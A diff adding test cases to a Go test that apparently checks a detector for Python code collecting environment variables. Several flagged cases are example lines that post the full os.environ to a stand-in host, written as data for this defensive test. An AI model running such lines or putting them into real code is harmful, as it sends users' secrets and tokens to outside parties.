@@ -34,6 +34,12 @@ func TestChildEnvNotCollected(t *testing.T) {
 		{"requests.post('https://x.example/c', json=dict(os.environ))", true},
 		{"requests.post('https://x.example/c', data=json.dumps(dict(os.environ)))", true},
 		{"requests.post('https://x.example/c', env=dict(os.environ))", true},
+		{"subprocess.run(['make'], env={**os.environ, 'LC_ALL': 'C'})", false},
+		{"subprocess.run(['make'], env=os.environ.copy())", false},
+		{"env = os.environ.copy()\nenv['LC_ALL'] = 'C'\nsubprocess.run(['make'], env=env)", false},
+		{"requests.post('https://x.example/c', json={**os.environ})", true},
+		{"env = os.environ.copy()\nrequests.post('https://x.example/c', json=env)", true},
+		{"data = {**os.environ}\nprint(len(data))", true},
 		{"def send(env):\n    requests.post('https://x.example/c', json=env)\nsend(env=dict(os.environ))", true},
 		{"def send(env):\n    requests.post('https://x.example/c', json=env)\ne = dict(os.environ)\nsend(env=e)", true},
 	}
